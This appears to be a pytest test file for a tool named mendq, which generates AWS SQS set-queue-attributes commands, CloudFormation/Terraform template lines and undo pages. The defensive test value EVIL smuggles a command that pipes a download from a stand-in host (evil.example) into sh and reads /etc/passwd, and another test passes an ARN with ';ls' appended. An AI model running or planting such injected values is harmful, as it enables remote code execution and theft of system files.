"""What people are told to type does what it says."""

from __future__ import annotations

import json
import shlex
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mendq.catalogue.examples import QUEUE_ARN
from mendq.model.case import State
from mendq.model.queue import arn_of_url, public_url
from mendq.notifications.change_lines import with_unit
from mendq.notifications.commands import set_command
from tests.model.cases_to_page import notified, section

EVIL = '{"a":"x\'; curl https://evil.example | sh; \'${file(\\"/etc/passwd\\")}"}'


def attributes_of(command: str) -> Any:
    given_text = shlex.split(command)[-1]
    if given_text.startswith("{"):
        return json.loads(given_text)
    return dict(pair.split("=") for pair in given_text.split(","))


@pytest.mark.parametrize(
    "values",
    [
        {"VisibilityTimeout": "45"},
        {"DeduplicationScope": "messageGroup", "FifoThroughputLimit": "perMessageGroupId"},
        {"RedrivePolicy": ""},
        {"RedrivePolicy": EVIL},
        {"KmsMasterKeyId": "alias/a,b=c"},
    ],
)
def test_the_command_sets_exactly_these_values(values: dict[str, str]) -> None:
    command = set_command(QUEUE_ARN, values)
    assert attributes_of(command) == values
    assert shlex.split(command)[:7] == [
        *("aws", "sqs", "set-queue-attributes", "--region", "us-east-1", "--queue-url"),
        "https://sqs.us-east-1.amazonaws.com/123456789012/orders.fifo",
    ]
    assert "evil.example" not in command or ":\\u002f/evil.example" in command


@given(values=st.dictionaries(st.text(min_size=1), st.text(), min_size=1, max_size=3))
def test_no_value_leaves_its_argument(values: dict[str, str]) -> None:
    command = set_command(QUEUE_ARN, values)
    assert len(shlex.split(command)) == 9
    assert attributes_of(command) == values
    assert command.isascii()
    assert command.isprintable()


@pytest.mark.parametrize(
    ("region", "host"),
    [("eu-west-1", "amazonaws.com"), ("cn-north-1", "amazonaws.com.cn")],
)
def test_a_public_url_leads_back_to_its_queue(region: str, host: str) -> None:
    partition = "aws-cn" if region.startswith("cn-") else "aws"
    arn = f"arn:{partition}:sqs:{region}:123456789012:orders"
    url = public_url(arn)
    assert url == f"https://sqs.{region}.{host}/123456789012/orders"
    assert arn_of_url(url, region) == arn


def test_a_public_url_of_no_queue_is_refused() -> None:
    with pytest.raises(ValueError, match="not the ARN"):
        public_url("arn:aws:sqs:us-east-1:123456789012:orders;ls")


def template(attribute: str, text: str) -> list[str]:
    steps = ({"attribute": attribute, "before": "", "after": text},)
    page = notified({"attributes": {}}, state=State.OVERRIDDEN, steps=steps)
    return section(page.body, "TEMPLATE")[3:]


@pytest.mark.parametrize(
    ("attribute", "text", "cloudformation", "terraform"),
    [
        ("DelaySeconds", "5", "DelaySeconds: 5", "delay_seconds = 5"),
        (
            "ContentBasedDeduplication",
            "true",
            "ContentBasedDeduplication: true",
            "content_based_deduplication = true",
        ),
        (
            "DeduplicationScope",
            "queue",
            'DeduplicationScope: "queue"',
            'deduplication_scope = "queue"',
        ),
        (
            "RedrivePolicy",
            '{"maxReceiveCount": 5}',
            'RedrivePolicy: {"maxReceiveCount":5}',
            'redrive_policy = jsonencode({"maxReceiveCount":5})',
        ),
        (
            "Policy",
            '{"a": "${x}%{y}"}',
            'PolicyDocument (AWS::SQS::QueuePolicy): {"a":"${x}%{y}"}',
            'policy = jsonencode({"a":"$${x}%%{y}"})',
        ),
        ("KmsMasterKeyId", "007", 'KmsMasterKeyId: "007"', 'kms_master_key_id = "007"'),
        ("New", "1", "New: 1", "no argument known for New"),
        ("Policy", json.dumps({"a": "x" * 400}), "(too long for a page)", "(too long for a page)"),
    ],
)
def test_template_lines(attribute: str, text: str, cloudformation: str, terraform: str) -> None:
    ours, ours_too, theirs, _ = template(attribute, text)
    assert ours.startswith("Mendq's, CloudFormation: ")
    assert ours_too.startswith("Mendq's, Terraform: ")
    assert cloudformation in ours
    assert terraform in ours_too
    assert theirs.endswith("(not set: leave it out)")


def test_theirs_is_what_stood_there_where_the_queue_cannot_be_read() -> None:
    steps = ({"attribute": "DelaySeconds", "before": "3", "after": "5"},)
    text = notified({"attributes": {}}, state=State.OVERRIDDEN, steps=steps).body
    assert "theirs, Terraform: delay_seconds = 3" in section(text, "TEMPLATE")


@pytest.mark.parametrize(
    ("attribute", "text", "expected"),
    [
        ("VisibilityTimeout", "30", "30 s"),
        ("MessageRetentionPeriod", "1209600", "1209600 s (14 d)"),
        ("MessageRetentionPeriod", "90000", "90000 s"),
        ("MaximumMessageSize", "1024", "1024"),
        ("DelaySeconds", "soon now", '"soon now"'),
    ],
)
def test_units(attribute: str, text: str, expected: str) -> None:
    assert with_unit(attribute, text) == expected


SOURCE = QUEUE_ARN.replace("orders", "billing")
BACK = {"attribute": "Dlq", "before": "held", "after": SOURCE}
RETAINED = {"attribute": "MessageRetentionPeriod", "before": "345600", "after": "1209600"}


def test_messages_go_back_by_a_command_of_their_own_and_stay_there() -> None:
    page = notified(steps=(BACK, RETAINED)).body
    change, undo = section(page, "CHANGE"), section(page, "UNDO")
    assert "mendq redrive billing.fifo --all --dry-run --region us-east-1" in change
    assert [attributes_of(each) for each in change if each.startswith("aws ")] == [
        {"MessageRetentionPeriod": "1209600"}
    ]
    assert [attributes_of(each) for each in undo if each.startswith("aws ")] == [
        {"MessageRetentionPeriod": "345600"}
    ]
    assert undo[-2].startswith("messages that went back stay there")
    assert undo[-1].startswith("mendq rollback ")


def test_messages_alone_are_set_by_no_command() -> None:
    page = notified(steps=(BACK,)).body
    assert "set-queue-attributes" not in page


def test_what_was_sent_back_is_no_line_of_a_template() -> None:
    page = notified(steps=(BACK, RETAINED), state=State.OVERRIDDEN).body
    lines = section(page, "TEMPLATE")
    assert any("MessageRetentionPeriod" in each for each in lines)
    assert not any("Dlq" in each for each in lines)
